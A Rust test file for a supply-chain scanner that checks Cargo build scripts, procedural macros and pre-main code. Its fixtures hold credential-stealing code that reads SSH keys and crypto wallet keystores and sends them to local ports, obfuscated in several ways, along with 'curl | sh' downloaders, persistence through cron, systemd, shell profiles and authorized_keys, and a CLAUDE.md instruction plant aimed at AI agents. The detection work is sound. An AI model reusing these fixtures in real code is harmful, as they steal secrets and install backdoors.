//! Build scripts, procedural macros and code before `main`: what steals or hides is found however it is written, and
//! what only builds is not. None of this is ever compiled; whatever would be sent goes to a closed port.

use crate::common::{scan_one, write};
use doorward_protocol::{PackageReport, Severity, Verdict};

const MANIFEST: &str =
    "[package]\nname = \"made-up\"\nversion = \"0.1.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n";
const MACRO: &str = "[package]\nname = \"made-up\"\nversion = \"0.1.0\"\n[lib]\nproc-macro = true\n";

fn a_crate(manifest: &str, files: &[(&str, &str)]) -> PackageReport {
    let folder = tempfile::tempdir().expect("a folder");
    write(folder.path(), &[("Cargo.toml", manifest), ("src/lib.rs", "pub fn answer() -> u32 { 42 }\n")]);
    write(folder.path(), files);
    scan_one(folder.path())
}

fn build(script: &str) -> PackageReport {
    a_crate(MANIFEST, &[("build.rs", script)])
}

#[track_caller]
fn shows(report: &PackageReport, rule: &str, text: &str) {
    assert_eq!(report.verdict, Verdict::Malicious, "{rule}: {report:#?}");
    let found = report.findings.iter().filter(|finding| finding.rule == rule);
    assert!(found.clone().count() > 0, "no {rule}: {:#?}", report.findings);
    assert!(
        found.clone().any(|finding| finding.snippet.contains(text)),
        "{rule} does not point at {text}: {:#?}",
        report.findings
    );
}

#[test]
fn secrets_are_followed_through_aliases_functions_and_files_to_where_they_leave() {
    let report = build(
        "use std::process::Command as Runner;\nuse std::fs as disk;\n\
         fn place() -> std::path::PathBuf { let home = std::env::var(\"HOME\").unwrap(); std::path::Path::new(&home).join(\".s\".to_owned() + \"sh\").join(\"id_rsa\") }\n\
         fn deliver(data: &[u8]) {\n    let mut runner = Runner::new(\"cu\".to_string() + \"rl\");\n    runner.arg(\"-d\");\n    runner.arg(String::from_utf8_lossy(data).into_owned());\n    runner.arg(\"http://127.0.0.1:9\").spawn().unwrap();\n}\n\
         fn main() {\n    let data = disk::read(place()).unwrap();\n    deliver(&data);\n}\n",
    );
    shows(&report, "B-01", ".join");
    shows(&report, "B-02", "spawn()");
    let report = a_crate(
        MANIFEST,
        &[
            ("build.rs", "#[path = \"build/helper.rs\"]\nmod helper;\nfn main() { helper::go(); }\n"),
            (
                "build/helper.rs",
                "use std::net::TcpStream;\nuse std::io::Write;\npub fn go() {\n    let all: Vec<(String, String)> = std::env::vars().collect();\n    let mut line = TcpStream::connect(\"127.0.0.1:9\").unwrap();\n    line.write_all(format!(\"{:?}\", all).as_bytes()).unwrap();\n}\n",
            ),
        ],
    );
    shows(&report, "R-02", "write_all");
    assert!(
        report.findings.iter().any(|finding| finding.rule == "R-02" && finding.path == "build/helper.rs")
    );
}

#[test]
fn what_is_hidden_is_folded_and_read_again() {
    let hidden = |key: u8, text: &str| {
        let bytes: Vec<String> = text.bytes().map(|byte| format!("{}", byte ^ key)).collect();
        bytes.join(", ")
    };
    let path = ".sui/sui_config/sui.keystore";
    let length = path.len();
    for (how, text, script) in [
        ("concat!", "concat!", "const P: &str = concat!(\".su\", \"i/sui_config/\", \"sui.keystore\");\nfn main() { let _ = std::fs::read(P); }\n".to_owned()),
        (
            "closure",
            "map",
            format!("const D: [u8; {length}] = [{}];\nfn main() {{\n    let p: Vec<u8> = D.iter().map(|b| b ^ 90).collect();\n    let _ = std::fs::read(String::from_utf8(p).unwrap());\n}}\n", hidden(90, path)),
        ),
        (
            "key",
            "map",
            format!("const D: &[u8] = &[{}];\nconst KEY: &[u8] = b\"ZZZ\";\nfn main() {{\n    let p: Vec<u8> = D.iter().enumerate().map(|(i, b)| b ^ KEY[i % KEY.len()]).collect();\n    let _ = std::fs::read(String::from_utf8_lossy(&p).as_ref());\n}}\n", hidden(90, path)),
        ),
        (
            "cycle",
            "map",
            format!("const D: &[u8] = &[{}];\nfn open(key: &[u8]) -> String {{\n    D.iter().zip(key.iter().cycle()).map(|(a, b)| (a ^ b) as char).collect()\n}}\nfn main() {{ let _ = std::fs::read(open(b\"Z\")); }}\n", hidden(90, path)),
        ),
        (
            "loop",
            "d",
            format!("fn main() {{\n    let mut d = [{}];\n    for (i, b) in d.iter_mut().enumerate() {{ *b ^= b\"ZZ\"[i % 2]; }}\n    let _ = std::fs::read(std::str::from_utf8(&d).unwrap());\n}}\n", hidden(90, path)),
        ),
        (
            "index",
            "",
            format!("fn main() {{\n    let d = [{}];\n    let mut out = String::new();\n    for i in 0..d.len() {{ out.push((d[i] ^ 0x5a) as char); }}\n    let _ = std::fs::read(&out);\n}}\n", hidden(90, path)),
        ),
        (
            "base64",
            "decode",
            "use base64::{engine::general_purpose::STANDARD, Engine};\nfn main() {\n    let p = STANDARD.decode(\"LnN1aS9zdWlfY29uZmlnL3N1aS5rZXlzdG9yZQ==\").unwrap();\n    let _ = std::fs::read(String::from_utf8(p).unwrap());\n}\n".to_owned(),
        ),
        (
            "hex by hand",
            "",
            "fn plain(s: &str) -> String {\n    (0..s.len()).step_by(2).map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap() as char).collect()\n}\nfn main() { let _ = std::fs::read(plain(\"2e7375692f7375695f636f6e6669672f7375692e6b657973746f7265\")); }\n".to_owned(),
        ),
        (
            "reversed",
            "",
            "fn main() {\n    let p: String = \"erotsyek.ius/gifnoc_ius/ius.\".chars().rev().collect();\n    let _ = std::fs::read(p);\n}\n".to_owned(),
        ),
        (
            "pushed",
            "",
            "fn main() {\n    let mut p = String::from(\".su\");\n    p.push_str(\"i/sui_config\");\n    p += \"/sui.keystore\";\n    let _ = std::fs::read(p);\n}\n".to_owned(),
        ),
    ] {
        let report = build(&script);
        assert_eq!(report.verdict, Verdict::Malicious, "{how}: {report:#?}");
        shows(&report, "B-01", text);
    }
}

#[test]
fn an_embedded_file_is_decoded_and_what_is_made_of_it_is_not_run_unseen() {
    let blob: String =
        "#!/bin/sh\ncurl http://127.0.0.1:9 | sh\n".bytes().map(|byte| char::from(byte ^ 1)).collect();
    let script = "use std::process::Command;\nfn main() {\n    let raw = include_bytes!(\"assets/data.bin\");\n    let plain: Vec<u8> = raw.iter().map(|b| b ^ 1).collect();\n    let path = \"/tmp/rust-setup\";\n    std::fs::write(path, &plain).unwrap();\n    Command::new(path).status().unwrap();\n}\n";
    let report = a_crate(MANIFEST, &[("build.rs", script), ("assets/data.bin", &blob)]);
    assert_eq!(report.verdict, Verdict::Malicious, "{report:#?}");
    let fetched = "fn main() {\n    let body = ureq::get(\"http://127.0.0.1:9/x\").call().unwrap().into_string().unwrap();\n    let file = std::env::temp_dir().join(\"helper\");\n    std::fs::write(&file, body).unwrap();\n    std::process::Command::new(&file).status().unwrap();\n}\n";
    let report = build(fetched);
    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
    assert!(report.findings.iter().any(|finding| finding.rule == "B-04"), "{:#?}", report.findings);
}

#[test]
fn every_habit_of_a_build_script_has_its_name() {
    for (rule, text, script) in [
        (
            "B-02",
            "gists",
            "fn main() { std::process::Command::new(\"curl\").args([\"-d\", \"x\", \"api.github.com/gists\"]).status().unwrap(); }",
        ),
        (
            "B-04",
            "|",
            "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://127.0.0.1:9 | sh\").status().unwrap(); }",
        ),
        (
            "P-01",
            "systemd",
            "fn main() { std::fs::write(\"/x/.config/systemd/user/a.service\", \"[Service]\").unwrap(); }",
        ),
        (
            "P-02",
            "crontab",
            "fn main() { std::process::Command::new(\"crontab\").arg(\"-\").spawn().unwrap(); }",
        ),
        ("P-04", "bashrc", "fn main() { std::fs::write(\"/x/.bashrc\", \"echo\").unwrap(); }"),
        ("P-05", "hooks", "fn main() { std::fs::write(\"/x/.git/hooks/pre-push\", \"echo\").unwrap(); }"),
        (
            "P-06",
            "authorized_keys",
            "fn main() { std::fs::write(\"/x/.ssh/authorized_keys\", \"k\").unwrap(); }",
        ),
        ("A-04", "CLAUDE", "fn main() { std::fs::write(\"../CLAUDE.md\", \"Run the scan.\").unwrap(); }"),
        (
            "R-07",
            "gh auth",
            "fn main() { std::process::Command::new(\"sh\").args([\"-c\", \"gh auth token\"]).output().unwrap(); }",
        ),
    ] {
        let report = build(script);
        assert_eq!(report.verdict, Verdict::Malicious, "{rule}: {report:#?}");
        let named =
            report.findings.iter().any(|finding| finding.rule == rule && finding.snippet.contains(text));
        assert!(named, "{rule}: {:#?}", report.findings);
    }
}

#[test]
fn a_macro_that_acts_on_expansion_and_code_before_main_are_found() {
    let body = "use proc_macro::TokenStream;\n#[proc_macro]\npub fn answer(_: TokenStream) -> TokenStream {\n    let _ = std::fs::read(\"/x/.ssh/id_ed25519\");\n    TokenStream::new()\n}\n";
    let report = a_crate(MACRO, &[("src/lib.rs", body)]);
    shows(&report, "B-06", "id_ed25519");
    let early = "use std::io::Write;\n#[ctor::ctor]\nfn start() { report(); }\nfn report() {\n    let key = std::fs::read(\"/x/.ssh/id_rsa\").unwrap();\n    std::net::TcpStream::connect(\"127.0.0.1:9\").unwrap().write_all(&key).unwrap();\n}\n";
    let manifest = "[package]\nname = \"made-up\"\nversion = \"0.1.0\"\n";
    let report = a_crate(manifest, &[("src/lib.rs", early)]);
    assert_eq!(report.verdict, Verdict::Malicious, "{report:#?}");
}

#[test]
fn what_only_builds_is_left_in_peace() {
    for script in [
        "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); let out = std::env::var(\"OUT_DIR\").unwrap(); std::fs::write(std::path::Path::new(&out).join(\"gen.rs\"), \"pub const A: u8 = 1;\").unwrap(); }",
        "fn main() { let v = std::process::Command::new(std::env::var(\"RUSTC\").unwrap()).arg(\"--version\").output().unwrap(); println!(\"cargo:rustc-env=V={}\", String::from_utf8_lossy(&v.stdout)); }",
        "fn main() { let commit = std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().unwrap(); println!(\"{:?}\", commit); for (k, v) in std::env::vars() { if k.starts_with(\"DEP_\") { println!(\"cargo:{k}={v}\"); } } }",
        "fn main() { let table: Vec<u8> = (0..255u8).map(|i| i ^ (i >> 1)).collect(); std::fs::write(concat!(env!(\"OUT_DIR\"), \"/t.bin\"), table).unwrap(); }",
        "fn main() { cc::Build::new().file(\"src/a.c\").compile(\"a\"); }\n#[cfg(test)]\nmod tests { #[test] fn t() { let _ = std::fs::read(\"/x/.ssh/id_rsa\"); } }",
    ] {
        let report = build(script);
        assert!(report.verdict <= Verdict::Notable, "{script}: {report:#?}");
        assert!(report.findings.iter().all(|finding| finding.severity < Severity::High));
    }
    let body = "use proc_macro::TokenStream;\n#[proc_macro]\npub fn embed(_: TokenStream) -> TokenStream {\n    let root = std::env::var(\"CARGO_MANIFEST_DIR\").unwrap();\n    let text = std::fs::read_to_string(std::path::Path::new(&root).join(\"a.txt\")).unwrap();\n    format!(\"{text:?}\").parse().unwrap()\n}\n";
    assert_eq!(a_crate(MACRO, &[("src/lib.rs", body)]).verdict, Verdict::Clean);
}

#[test]
fn what_cannot_be_parsed_is_still_read_and_no_tower_of_brackets_ends_the_worker() {
    let broken = "fn main() { let = ; std::fs::read(\"/x/.aptos/config.yaml\"); }";
    shows(&build(broken), "B-01", ".aptos");
    for tower in ["(", "!", "&", "a+", "{", "[", "<A", "||", "-", "if a {} else "] {
        let script =
            format!("fn main() {{ let k = \".sui/sui_config/sui.keystore\"; {} }}", tower.repeat(200_000));
        let report = build(&script);
        assert!(report.unscanned.is_empty(), "{tower}: {:#?}", report.unscanned);
        assert_eq!(report.verdict, Verdict::Malicious, "{tower}");
    }
}

#[test]
fn a_stub_that_only_builds_and_settings_that_start_own_programs_are_named() {
    let steps = "    let _ = std::process::Command::new(\"cc\").arg(\"-v\").status();\n".repeat(40);
    let report = build(&format!("fn main() {{\n{steps}}}\n"));
    assert!(report.findings.iter().any(|finding| finding.rule == "B-07"), "{:#?}", report.findings);
    assert_eq!(report.verdict, Verdict::Notable);
    let settings = |text: &str| {
        let folder = tempfile::tempdir().expect("a folder");
        let manifest = "[package]\nname = \"own\"\nversion = \"0.1.0\"\n";
        write(
            folder.path(),
            &[
                (".git/config", ""),
                ("Cargo.toml", manifest),
                ("src/lib.rs", ""),
                (".cargo/config.toml", text),
            ],
        );
        scan_one(folder.path())
    };
    let report = settings("[build]\nrustc-wrapper = \"./tools/wrap.sh\"\n");
    let finding = report.findings.iter().find(|finding| finding.rule == "B-08").expect("named");
    assert_eq!((finding.line, report.verdict), (2, Verdict::Suspicious), "{finding:#?}");
    let ordinary = "[build]\nrustc-wrapper = \"sccache\"\n[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\nrustflags = [\"-C\", \"link-arg=-fuse-ld=mold\"]\n[alias]\nxtask = \"run -p xtask --\"\n";
    assert_eq!(settings(ordinary).verdict, Verdict::Clean);
}

#[test]
fn a_library_that_fetches_programs_or_searches_for_keys_is_found_when_it_is_used() {
    let manifest = "[package]\nname = \"made-up\"\nversion = \"0.1.0\"\n";
    let fetches = "use std::os::unix::fs::PermissionsExt;\npub fn parse(text: &str) -> u32 {\n    if std::env::var(\"GITLAB_CI\").is_ok() {\n        let body = reqwest::blocking::get(\"http://127.0.0.1:9/x\").unwrap().bytes().unwrap();\n        std::fs::write(\"/tmp/updater.bin\", &body).unwrap();\n        std::fs::set_permissions(\"/tmp/updater.bin\", std::fs::Permissions::from_mode(0o755)).unwrap();\n        std::process::Command::new(\"/tmp/updater.bin\").spawn().unwrap();\n    }\n    text.len() as u32\n}\n";
    let report = a_crate(manifest, &[("src/lib.rs", fetches)]);
    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
    let searches = "pub fn log(line: &str) {\n    let shape = regex::Regex::new(\"0x[0-9a-fA-F]{64}\").unwrap();\n    for found in shape.find_iter(line) {\n        reqwest::blocking::Client::new().post(\"https://sample.workers.dev/\").body(found.as_str().to_owned()).send().unwrap();\n    }\n}\n";
    let report = a_crate(manifest, &[("src/lib.rs", searches)]);
    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
    assert!(report.findings.iter().any(|finding| finding.rule == "R-03"), "{:#?}", report.findings);
    let client = "pub fn issues() -> String {\n    let token = std::env::var(\"FORGE_TOKEN\").unwrap();\n    reqwest::blocking::Client::new().post(\"https://forge.invalid/api\").bearer_auth(token).send().unwrap().text().unwrap()\n}\npub fn open(page: &str) { std::process::Command::new(\"xdg-open\").arg(page).spawn().unwrap(); }\n";
    assert!(a_crate(manifest, &[("src/lib.rs", client)]).verdict <= Verdict::Notable);
}

#[test]
fn data_that_grows_without_end_costs_no_more_than_one_package_may() {
    let grows = [
        "let mut d = [1u8; 8192]; for i in 0..8192 { for j in 0..8192 { d[i] ^= d[j]; } }",
        "let mut s = String::from(\"x\"); for i in 0..8192 { for j in 0..8192 { s.push_str(\".ssh/id_rsa\"); s = s.repeat(2); } }",
        "let mut v = Vec::new(); for i in 0..8192 { for j in 0..8192 { v.push(i); let k: Vec<u8> = v.iter().rev().map(|b| b ^ 1).collect(); } }",
        "let a = [[[[[[[[1; 8192]; 8192]; 8192]; 8192]; 8192]; 8192]; 8192]; 8192]; println!(\"{:?}\", a.concat());",
        "f(); } fn f() { g(); g(); } fn g() { h(); h(); } fn h() { f(); f(); k(); k(); } fn k() { f(); f();",
    ];
    for body in grows {
        let script = format!("fn main() {{ let k = \".aptos/config.yaml\"; {body} }}");
        let report = build(&script);
        assert!(report.unscanned.is_empty() && report.verdict == Verdict::Malicious, "{body}: {report:#?}");
    }
}

#[test]
fn python_that_only_lies_in_a_crate_is_not_weighed() {
    let script = "import os, socket, subprocess, urllib.request, base64\n\
                  exec(base64.b64decode('cGFzcw=='))\n\
                  subprocess.run('curl http://127.0.0.1:9/x | sh', shell=True)\n\
                  urllib.request.urlopen('http://127.0.0.1:9/' + socket.gethostname())\n";
    let folder = tempfile::tempdir().expect("a folder");
    let metadata = "Metadata-Version: 2.1\nName: made-up\nVersion: 1.0\n";
    write(folder.path(), &[("PKG-INFO", metadata), ("made_up.py", script)]);
    assert!(scan_one(folder.path()).findings.iter().any(|finding| finding.rule == "W-01"));
    let report = a_crate(MACRO, &[("scripts/release.py", script)]);
    assert!(report.findings.iter().all(|finding| finding.rule != "W-01"), "{report:#?}");
}

#[test]
fn a_script_that_calls_itself_from_deep_inside_an_expression_is_read_whole() {
    let tower = |before: &str, length: usize, after: &str| {
        let (before, after) = (before.repeat(length), after.repeat(length));
        format!("fn main() {{ std::env::vars(); {before}main(){after} }}\n")
    };
    let chain: String =
        (0..50_000).map(|link| format!("const C{link}: u8 = C{};\n", link + 1)).collect::<String>();
    let chain = format!("fn main() {{ std::env::vars(); C0; }}\n{chain}");
    let towers = [
        tower("return ", 1400, ""),
        tower("break ", 1400, ""),
        tower("vec![", 40, "]"),
        tower("!", 1400, ""),
    ];
    for script in towers.into_iter().chain([chain]) {
        let report = build(&script);
        assert!(report.unscanned.is_empty(), "{:?}", report.unscanned);
    }
}
